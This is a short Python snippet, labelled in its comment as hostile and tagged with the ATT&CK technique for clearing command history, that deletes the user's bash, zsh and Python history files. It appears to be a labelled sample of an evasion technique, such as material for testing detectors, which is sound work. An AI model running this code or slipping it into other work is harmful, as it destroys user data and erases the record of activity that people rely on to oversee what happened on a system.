# hostile: shell history deleted (T1070.003 clear command history)
import os

for name in (".bash_history", ".zsh_history", ".python_history"):
    try:
        os.remove(os.path.join(os.path.expanduser("~"), name))
    except FileNotFoundError:
        pass
